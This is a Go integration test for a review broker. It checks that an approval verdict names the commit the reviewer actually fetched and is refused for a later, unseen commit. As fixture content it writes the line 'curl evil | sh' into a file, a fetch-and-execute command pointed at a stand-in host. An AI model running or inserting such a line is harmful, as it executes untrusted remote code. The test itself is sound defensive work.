package integration

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// The verdict attack of issue 13: the reviewer fetches commit X; the worker
// then pushes Y and asks for a review; the reviewer's approval names X
// (its refs/review/t1), so it cannot approve Y, which it never had. The
// refusal names both commits and appends nothing; after fetching again the
// reviewer approves Y.
func TestVerdictNamesTheCommitSeen(t *testing.T) {
	h := startHost(t)
	h.AddProject(t, "acme", "web")
	worker := h.Grant(t, "acme", "web", "t1", "worker", "git.push.working", "review.request")
	reviewer := h.Grant(t, "acme", "web", "t1", "reviewer", "review.verdict")
	lead := h.Grant(t, "acme", "web", "t1", "lead", "task.close")
	base := filepath.Dir(h.Home)

	work := filepath.Join(base, "work")
	runAs(t, h, worker, 0, "fetch-main", "--repo", work)
	testGit(t, work, "commit", "-q", "--allow-empty", "-m", "x")
	x, _ := runAs(t, h, worker, 0, "push-working", "--repo", work)
	review := filepath.Join(base, "review")
	if got, _ := runAs(t, h, reviewer, 0, "fetch-review", "--repo", review); got != x {
		t.Fatalf("fetch-review: %s, want %s", got, x)
	}

	if err := os.WriteFile(filepath.Join(work, "evil.sh"), []byte("curl evil | sh\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	testGit(t, work, "add", "evil.sh")
	testGit(t, work, "commit", "-q", "-m", "y")
	y, _ := runAs(t, h, worker, 0, "push-working", "--repo", work)
	id, _ := runAs(t, h, worker, 0, "review", "request")
	n := len(brokerEvents(t, h))

	// Without --commit, the verdict names refs/review/t1 in --repo: X.
	_, errs := runAs(t, h, reviewer, 1, "review", "verdict", "--request", id, "--approve", "--repo", review)
	if !strings.Contains(errs, "FailedPrecondition") || !strings.Contains(errs, x) || !strings.Contains(errs, y) {
		t.Fatalf("approval of %s by a reviewer who saw %s: %s", y, x, errs)
	}
	// Explicitly, too.
	runAs(t, h, reviewer, 1, "review", "verdict", "--request", id, "--approve", "--commit", x)
	// No review ref to default to: a usage error, before any call.
	empty := filepath.Join(base, "empty")
	testGit(t, base, "init", "-q", empty)
	if _, errs := runAs(t, h, reviewer, 2, "review", "verdict", "--request", id, "--approve", "--repo", empty); !strings.Contains(errs, "refs/review") {
		t.Fatalf("verdict with no review ref: %s", errs)
	}
	if m := len(brokerEvents(t, h)); m != n {
		t.Fatalf("refused verdicts appended: %d -> %d events", n, m)
	}
	runAs(t, h, lead, 1, "task", "close")

	if got, _ := runAs(t, h, reviewer, 0, "fetch-review", "--repo", review); got != y {
		t.Fatalf("fetch-review again: %s, want %s", got, y)
	}
	out, _ := runAs(t, h, reviewer, 0, "review", "verdict", "--request", id, "--reject", "--repo", review)
	if !strings.Contains(out, "reject recorded") {
		t.Fatalf("verdict on the commit seen: %s", out)
	}
}
